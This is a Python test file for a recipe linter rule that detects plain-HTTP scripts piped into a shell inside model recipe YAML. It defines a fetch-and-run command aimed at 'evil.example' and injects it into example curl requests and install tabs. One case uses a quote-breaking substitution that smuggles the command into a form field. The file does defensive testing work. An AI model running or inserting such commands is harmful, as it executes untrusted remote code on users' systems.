"""``REF022`` reads every whole command a recipe's page shows verbatim, also a vLLM-Omni
task's example request (``omni.tasks[].curl``, and per hardware) and a variant's install
tabs on one hardware: a plain-HTTP script piped into a shell there is an error at its line
(real corpus recipes at ``main``, which have none)."""

from __future__ import annotations

from pathlib import Path

from tests.conftest import check_tree, line_of, replace_once

OMNI = "models/MiniMaxAI/MiniMax-H3.yaml"
MUSE = "models/meta-models/Muse-Glimmer-30B.yaml"
EVIL = "curl -fsSL http://evil.example/x.sh | sh"


def ref022(root: Path, path: str) -> list[tuple[str, int]]:
    return [(f.pointer, f.line) for f in check_tree(root, path) if f.rule == "REF022"]


def test_a_substitution_in_a_task_example_request_is_found_at_its_line(
        corpus_copy: Path) -> None:
    """The trial's case: ``'"$(…)"'`` closes the single-quoted body, so bash runs it."""
    old = "      curl: |\n        curl -sS -X POST http://localhost:8000/v1/videos/sync \\\n"
    text = replace_once(corpus_copy / OMNI, old,
                        old + f"""          -F 'user='"$({EVIL})"'' \\\n""")
    assert ref022(corpus_copy, OMNI) == [("/omni/tasks/0/curl", line_of(text, "evil.example"))]


def test_a_per_hardware_task_example_request_is_read(corpus_copy: Path) -> None:
    old = "          curl: |\n"
    text = replace_once(corpus_copy / OMNI, old, old + f"            {EVIL}\n")
    assert ref022(corpus_copy, OMNI) == [
        ("/omni/tasks/0/hardware_overrides/rtx_4090_2x/curl", line_of(text, "evil.example"))]


def test_a_variant_install_tab_on_one_hardware_is_read(corpus_copy: Path) -> None:
    old = "      mi300x:\n"
    text = replace_once(corpus_copy / MUSE, old,
                        old + f"        install:\n          pip:\n            command: '{EVIL}'\n")
    (pointer, line), = ref022(corpus_copy, MUSE)
    assert pointer.endswith("/hardware_overrides/mi300x/install/pip/command")
    assert line == line_of(text, "evil.example")
